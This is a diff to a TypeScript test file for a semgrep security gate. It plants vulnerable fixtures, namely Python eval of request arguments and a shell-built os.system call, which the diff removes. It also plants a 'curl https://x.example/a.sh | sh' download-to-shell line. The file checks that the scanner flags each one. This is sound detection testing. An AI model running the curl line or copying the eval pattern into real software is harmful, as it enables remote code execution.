@@ -5,6 +5,7 @@ import { join } from "node:path";
 import { describe, expect, onTestFinished, test } from "vitest";
 import type { Finding, Judgement } from "../../../gates/contract.ts";
 import { semgrepGate } from "../../../gates/semgrep/gate.ts";
+import { kinds } from "../../../gates/semgrep/kinds.ts";
 import { contextFor, stagedContext } from "../../support/gate-context.ts";
 import { Sandbox } from "../../support/sandbox.ts";
 
@@ -118,7 +119,7 @@ describe("what is judged", () => {
     const python = "def view(request):\n    eval(request.args['code'])\n";
     sandbox.write({
       "bin/tool": `#!/usr/bin/env node\n${evalOfRequest}`,
-      "mark.py": `\ufeffimport os; os.system("ls " + path)\n`,
+      "mark.py": `\ufeffdef view(request): eval(request.args["code"])\n`,
       "wide.py": Buffer.from(`\ufeff${python}`, "utf16le"),
       "latin.py": Buffer.from(`# caf\xe9\n${python}`, "latin1"),
       "false.sh": Buffer.from("\xff\xfe\ncurl https://x.example/a.sh | sh\n", "latin1"),
@@ -129,7 +130,7 @@ describe("what is judged", () => {
       "bin/tool:3 semgrep/js-code-from-request",
       "false.sh:2 semgrep/bash-download-to-shell",
       "latin.py:3 semgrep/python-code-from-request",
-      "mark.py:1 semgrep/python-shell-command-built",
+      "mark.py:1 semgrep/python-code-from-request",
       "wide.py:2 semgrep/python-code-from-request",
     ]);
   });
@@ -421,5 +422,8 @@ test("the canary of every kind is found", async () => {
   const sandbox = Sandbox.repository();
   const { policy } = await stagedContext(sandbox);
   const result = await semgrepGate.canary({ policy, signal: new AbortController().signal, scratch });
-  expect(result).toEqual({ alive: true, detail: expect.stringContaining("10 of 10 planted defects found") });
+  expect(result).toEqual({
+    alive: true,
+    detail: expect.stringContaining(`${kinds.length} of ${kinds.length} planted defects found`),
+  });
 });
